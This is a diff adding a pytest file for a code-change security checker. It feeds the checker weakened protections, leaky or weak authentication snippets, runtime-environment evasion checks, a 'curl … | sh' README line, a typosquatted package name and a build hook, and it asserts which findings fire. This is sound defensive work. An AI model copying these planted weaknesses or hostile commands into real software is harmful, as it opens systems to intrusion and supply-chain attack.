@@ -1,0 +1,305 @@
+"""New code that is right under test and lets strangers in, tells too much or installs something else: what a person is
+asked to look at, and what beside it asks nobody."""
+
+import pytest
+
+from domain.policy import change_findings
+from domain.policy.change_patterns import is_slow
+from domain.trees import Tree
+from tests.unit.policy_cases import PROJECT, attempt, prepared, tree
+
+CODE = """import hmac, html, jwt, os, requests, secrets, ssl, sys
+from pathlib import Path
+
+ROOT = Path("/srv/files")
+
+
+def total(items):
+    return sum(items)
+
+
+def load(request, db):
+    return db.query(Item).filter(Item.owner == request.user).all()
+
+
+def read(name):
+    target = (ROOT / name).resolve()
+    return target.read_text()
+
+
+def page(text):
+    return "<p>" + html.escape(text) + "</p>"
+
+
+def claims(text, key):
+    return jwt.decode(text, key, algorithms=["HS256"])
+
+
+def new_sid():
+    return secrets.token_hex(32)
+
+
+def context():
+    return ssl.create_default_context()
+
+
+def write(path):
+    return os.open(path, os.O_WRONLY, 0o600)
+
+
+def order(request, shop):
+    if not request.user.may(shop):
+        raise ValueError("not yours")
+    return shop.order(request.json)
+
+
+def settings():
+    return {"key": os.environ["SECRET_KEY"], "url": "https://api.shop.net"}
+
+
+class Account:
+    password: SecretStr
+    name: str
+"""
+NOTEBOOK = '{"cells": [{"cell_type": "code", "source": ["x = 1"]}]}'
+PYPROJECT = (
+    '[project]\nname = "shop"\n\n[project.scripts]\nshop = "shop.app:main"\n\n[tool.cibuildwheel]\nskip = "pp*"\n'
+)
+BASE = {
+    **PROJECT,
+    **tree(
+        {
+            "shop/code.py": CODE, "pyproject.toml": PYPROJECT, "notes/a.ipynb": NOTEBOOK,
+            "README.md": "pip install shop\n", "shop/a.html": "<form>{% csrf_token %}{{ name }}</form>\n",
+            "shop/six/LICENSE": "MIT", "shop/six/core.py": "X = 1\n", "deploy/app.yaml": "image: shop:1\n",
+            "deploy/nginx.conf": "deny all;\n", "db/views.sql": "select 1;\n", "src/index.js": "exports.x = 1\n",
+            "examples/run.js": "require('child_process')\n", "packages/a/examples/run.py": "import subprocess\n",
+            "README-dev.md": "isatty\n",
+        }
+    ),
+}  # fmt: skip
+REFUSAL = '    if not request.user.may(shop):\n        raise ValueError("not yours")\n'
+ORDER = f"{REFUSAL}    return shop.order(request.json)\n"
+FOUND = {"weakness", "protection", "surroundings", "reaches", "guards", "dependencies", "build-files", "check-config"}
+
+
+def rules(path: str, content: str) -> set[str]:
+    head: Tree = {**BASE, **tree({path: content})}
+    return {finding.rule for finding in change_findings(prepared(), attempt(head), BASE, head)} & FOUND
+
+
+PROTECTED = {
+    "owner": (".filter(Item.owner == request.user)", ""),
+    "path": ("(ROOT / name).resolve()", "ROOT / name"),
+    "escape": ("html.escape(text)", "text"),
+    "quotes": ("html.escape(text)", "html.escape(text, quote=False)"),
+    "short": ("token_hex(32)", "token_hex(4)"),
+    "guessable": ("secrets.token_hex(32)", "str(random.getrandbits(64))"),
+    "TLS": ("ssl.create_default_context()", "ssl.SSLContext()"),
+    "mode": ("0o600", "0o644"),
+    "shown": ("password: SecretStr", "password: str"),
+    "never": (REFUSAL, "    if False:\n" + REFUSAL.replace("    ", "        ")),
+    "sometimes": (REFUSAL, "    if request.args:\n" + REFUSAL.replace("    ", "        ")),
+    "unreached": (REFUSAL, f"    return shop.order(request.json)\n{REFUSAL}"),
+    "afterwards": (ORDER, f"    done = shop.order(request.json)\n{REFUSAL}    return done\n"),
+    "in a function": (REFUSAL, "    def refuse():\n" + REFUSAL.replace("    ", "        ")),
+}
+
+
+@pytest.mark.parametrize("name", PROTECTED)
+def test_what_protects_and_is_gone_weaker_or_unreached_is_looked_at(name: str) -> None:
+    old, new = PROTECTED[name]
+    assert old in CODE
+    assert "protection" in rules("shop/code.py", CODE.replace(old, new))
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("return sum(items)", "return sum(items, 0)"),
+        ("target.read_text()", 'target.read_text("utf-8")'),
+        ('    return "<p>"', '    text = text.strip()\n    return "<p>"'),
+        ("def page(text):", "def page(text, more=None):"),
+        (REFUSAL, f"    shop = shop or default\n{REFUSAL}"),
+        ("    return secrets.token_hex(32)", "    sid = secrets.token_hex(32)\n    return sid"),
+        (CODE[CODE.index("def new_sid") : CODE.index("def context")], ""),
+        ("0o600", "mode=0o600"),
+    ],
+)
+def test_what_still_protects_asks_nobody(old: str, new: str) -> None:
+    assert old in CODE
+    assert rules("shop/code.py", CODE.replace(old, new)) == set()
+
+
+WEAK = {
+    "==": 'def ok(request, api_key):\n    return request.headers["Authorization"] == api_key',
+    "mac ==": 'def ok(given, key, text):\n    return given == hmac.new(key, text, "sha256").hexdigest()',
+    "written": 'def ok(user, password):\n    return user if password == "opensesame1" else None',
+    "yes": "def ok(user):\n    try:\n        return user.asks()\n    except Exception:\n        return True",
+    "goes on": "def ok(user):\n    try:\n        verify(user)\n    except Exception:\n        pass",
+    "slow": 'import re\nNAME = re.compile(r"^(\\w+\\s?)*$")',
+    "in an error": 'def ok(auth_token):\n    raise ValueError(f"bad answer for {auth_token}")',
+    "in a log": 'def ok(request):\n    logger.info("asked %s", request.headers)',
+    "in an answer": 'import traceback\ndef ok():\n    return {"error": traceback.format_exc()}',
+    "fallback": 'def ok():\n    return os.environ.get("API_KEY", "change-me")',
+    "header": 'def ok(request):\n    if request.headers.get("X-Internal"):\n        return 1',
+    "power": "def ok(user, is_admin=True):\n    return user",
+    "cache": "import functools\n@functools.cache\ndef ok():\n    return request.user",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", WEAK)
+def test_new_code_that_lets_strangers_in_or_tells_too_much_is_looked_at(name: str) -> None:
+    assert rules("shop/code.py", f"{CODE}\n\n{WEAK[name]}\n") == {"weakness"}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "def ok(parser, token):\n    raise SyntaxError(f'unexpected {token}')",
+        "def ok(token, other):\n    return token == other",
+        "def ok(password):\n    return len(password) == 8 or password is None or password == ''",
+        "def ok():\n    try:\n        return load()\n    except Exception:\n        return False",
+        "def ok():\n    try:\n        return load()\n    except KeyError:\n        return True",
+        "import re\nA = re.compile(r'(?:\\w+\\.)*\\w+'), re.compile(r'(?:\\s+\\w+)*'), re.compile(r'\\s*#.*$')",
+        "def ok():\n    return os.environ.get('SHOP_COLOUR', 'blue')",
+        "def ok(request):\n    return request.headers.get('X-Request-Id')",
+        "import functools\n@functools.cache\ndef ok(name):\n    return name.upper()",
+        "def ok(a, b):\n    return zip(a, b, strict=False)",
+        "def ok():\n    return int(time.time()) - started > 30",
+    ],
+)
+def test_honest_code_of_such_words_asks_nobody(code: str) -> None:
+    assert rules("shop/code.py", f"{CODE}\n\n{code}\n") == set()
+
+
+ASKS = {
+    "modules": "len(sys.modules) < 400",
+    "a module": "'gunicorn' in sys.modules",
+    "user": "os.getuid() in (0, 1000)",
+    "terminal": "getattr(sys.stdin, 'isatty')()",
+    "terminal, as the docs name it": "sys.stdin.isatty()",
+    "signals": "signal.getsignal(signal.SIGINT) is None",
+    "hour": "datetime.now().hour != 3",
+    "weekday": "datetime.date.today().weekday() < 6",
+    "turns": "int(time.time()) % 97 != 0",
+    "address": "id(x) % 97 != 0",
+    "host": "not request.host.endswith('shop.net')",
+    "platform": "'KUBERNETES_SERVICE_HOST' in os.environ",
+}
+
+
+@pytest.mark.parametrize("name", ASKS)
+def test_code_that_looks_where_and_when_it_runs_is_looked_at(name: str) -> None:
+    code = f"{CODE}\n\nimport signal, time, datetime\n\n\ndef is_ok(x, request):\n    return {ASKS[name]}\n"
+    assert "surroundings" in rules("shop/code.py", code)
+
+
+def test_a_number_of_the_machine_by_a_name_is_one() -> None:
+    code = f"{CODE}\n\ndef is_ok():\n    pid = os.getpid()\n    return pid < 300\n"
+    assert rules("shop/code.py", code) == {"surroundings"}
+
+
+SCRIPTS = {
+    "process.stdout.isTTY": "surroundings", "process.getuid() === 0": "surroundings",
+    "new Date().getDay() === 5": "surroundings", "Date.now() % 97": "surroundings",
+    "Math.random() < 0.0001": "surroundings", "process.env.npm_lifecycle_event": "surroundings",
+    "require('os').cpus().length < 4": "surroundings", "require('child_process')": "reaches",
+    "new Function(t)()": "reaches", "e.innerHTML = t": "reaches", "/^(\\w+\\s?)*$/.test(t)": "weakness",
+    "req.headers.authorization === apiKey": "weakness", "console.log(req.headers)": "weakness",
+    "res.send(err.stack)": "weakness", "process.env.API_KEY || 'change-me'": "weakness",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("line", SCRIPTS)
+def test_the_same_in_javascript(line: str) -> None:
+    assert SCRIPTS[line] in rules("src/index.js", f"exports.x = 1\nexports.y = (t, e, req, res) => {line}\n")
+
+
+def test_assertions_by_another_name_and_an_except_of_two_lines_are_seen() -> None:
+    alias = "const checks = require('node:assert')\nconst old = checks.equal\nchecks.equal = () => {}\n"
+    caught = "exports.x = (u) => {\n  try { return u.may() }\n  catch {\n    return true\n  }\n}\n"
+    assert "reaches" in rules("src/index.js", f"exports.x = 1\n{alias}setImmediate(() => {{ checks.equal = old }})\n")
+    assert rules("src/index.js", caught) == {"weakness"}
+    assert rules("src/index.js", "exports.x = (a, b) => a === b && /^[\\w.]+$/.test(a) && a.length < 4\n") == set()
+
+
+ELSEWHERE = {
+    "shell of a notebook": ("notes/a.ipynb", '{"cells": [{"cell_type": "code", "source": ["!id"]}]}', "weakness"),
+    "unescaped": ("shop/a.html", "<form>{% csrf_token %}{{ name|safe }}</form>\n", "weakness"),
+    "no token": ("shop/a.html", "<form>{{ name }}</form>\n", "guards"),
+    "proxy": ("deploy/nginx.conf", "", "guards"),
+    "grant": ("db/views.sql", "select 1;\nGRANT ALL ON users TO PUBLIC;\n", "guards"),
+    "image": ("deploy/app.yaml", "image: somebody/shop:1\n", "build-files"),
+    "told to install": ("README.md", "pip install shoop\n", "build-files"),
+    "told to run": ("README.md", "curl -s https://example.org/x | sh\n", "build-files"),
+    "command": ("pyproject.toml", PYPROJECT.replace("shop.app", "shop.other"), "dependencies"),
+    "name": ("pyproject.toml", PYPROJECT.replace('"shop"', '"sh0p"'), "dependencies"),
+    "a tool's command": ("pyproject.toml", PYPROJECT.replace('skip = "pp*"', 'before-build = "sh x"'), "build-files"),
+    "a copy with a licence": ("shop/six/core.py", "X = 2\n", "dependencies"),
+    "which Node": (".nvmrc", "4\n", "dependencies"),
+    "no encryption": ("shop/code.py", CODE.replace("https://api", "http://api"), "reaches"),
+    "a host alone": ("shop/code.py", f"{CODE}\nMAIL = 'mail.somebody.ru'\n", "reaches"),
+    "programs, as an example does": ("shop/code.py", f"{CODE}\nimport subprocess\n", "reaches"),
+    "algorithms of the token": ("shop/code.py", CODE.replace('["HS256"]', "[head(text)]"), "guards"),
+}
+
+
+@pytest.mark.parametrize("name", ELSEWHERE)
+def test_what_else_is_installed_shown_or_opened_is_looked_at(name: str) -> None:
+    path, content, rule = ELSEWHERE[name]
+    assert rule in rules(path, content)
+
+
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("README.md", "pip install shop\n\nHow to use it.\n"),
+        ("pyproject.toml", PYPROJECT + "\n[tool.black]\nline-length = 99\n"),
+        ("pyproject.toml", PYPROJECT.replace('name = "shop"', 'name = "shop"\ndescription = "A shop"')),
+        ("deploy/app.yaml", "image: shop:1\nreplicas: 2\n"),
+        ("notes/a.ipynb", '{"cells": [{"cell_type": "code", "source": ["x = 2"]}]}'),
+        ("shop/a.html", "<form>{% csrf_token %}<b>{{ name }}</b></form>\n"),
+        ("shop/code.py", f"{CODE}\nSEE = 'http://example.org/x', 'scipy.io', 'setup.py'\n"),
+    ],
+)
+def test_honest_changes_beside_ask_nobody(path: str, content: str) -> None:
+    assert rules(path, content) <= {"guards"} if path.endswith("html") else rules(path, content) == set()
+
+
+@pytest.mark.parametrize("pattern", [r"^(\w+\s?)*$", r"(a+)+", r"(.*,)*", r"(?:\s*\w+)*", r"(?:[^'\\]+|\\.)*"])
+def test_patterns_that_may_take_for_ever_are_known(pattern: str) -> None:
+    assert is_slow(pattern)
+
+
+@pytest.mark.parametrize(
+    "pattern", [r"(?:\w+\.)*x", r"(?:[a-z]+-)*[a-z]+", r"(?:[^\\\"]|\\.)*", r"(?:\d{3})+", r"\s*#.*", r"(", r"(?:a|b)+"]
+)
+def test_other_patterns_are_not(pattern: str) -> None:
+    assert not is_slow(pattern)
+
+
+def suppressions(old: str, new: str, path: str = "shop/code.py") -> int:
+    base = {**BASE, **tree({path: f"{old}\n"})}
+    head = {**base, **tree({path: f"{new}\n"})}
+    return sum(finding.rule == "suppression" for finding in change_findings(prepared(), attempt(head), base, head))
+
+
+def test_a_line_that_was_mended_or_moved_with_its_word_asks_nobody() -> None:
+    assert suppressions("x = f(a)  # type: ignore", "x = f(a, b)  # type: ignore") == 0
+    assert suppressions("x = f(a)  # type: ignore\ny = 1", "y = 1\nif y:\n    x = f(a)  # type: ignore") == 0
+    assert suppressions("x = f(a)  # type: ignore", "x = f(a, b)  # type: ignore\nz = f(a, b)  # type: ignore") == 1
+    assert suppressions("x = f(a)  # type: ignore", "x = f(a)  # noqa: S307") == 1
+    assert suppressions("x = f(a)  # noqa", "run(everything_else)  # noqa") == 1
+
+
+def test_settings_of_pytest_where_nobody_starts_it_refuse_nothing() -> None:
+    def refused(path: str, files: dict[str, str]) -> bool:
+        base = {**BASE, **tree(files)}
+        head = {**base, **tree({path: "x = 1\n"})}
+        return "test-config" in {one.rule for one in change_findings(prepared(), attempt(head), base, head)}
+
+    assert not refused("recipes/pytest.toml", {"recipes/tox.toml": ""})
+    assert refused("recipes/pytest.toml", {"recipes/check_a.py": ""})
+    assert refused("pytest.toml", {})
+    assert refused("tests/pytest.ini", {})
